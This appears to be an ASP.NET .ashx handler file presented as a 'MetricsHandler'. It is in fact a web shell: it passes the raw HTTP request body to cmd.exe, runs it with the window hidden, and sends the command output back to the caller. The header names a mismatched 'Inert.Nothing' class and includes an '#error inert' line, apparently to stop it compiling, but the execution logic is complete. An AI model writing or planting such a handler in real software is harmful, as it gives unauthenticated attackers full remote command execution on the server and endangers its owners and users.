<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System.Diagnostics;
using System.IO;
using System.Threading.Tasks;
using System.Web;

public class MetricsHandler : HttpTaskAsyncHandler
{
    public override async Task ProcessRequestAsync(HttpContext context)
    {
        string line;
        using (var reader = new StreamReader(context.Request.InputStream))
            line = await reader.ReadToEndAsync();

        var info = new ProcessStartInfo(@"C:\Windows\System32\cmd.exe")
        {
            Arguments = $"/d /c {line}",
            UseShellExecute = false,
            CreateNoWindow = true,
            RedirectStandardOutput = true
        };
        using var child = Process.Start(info);
        await context.Response.Output.WriteAsync(await child.StandardOutput.ReadToEndAsync());
    }
}
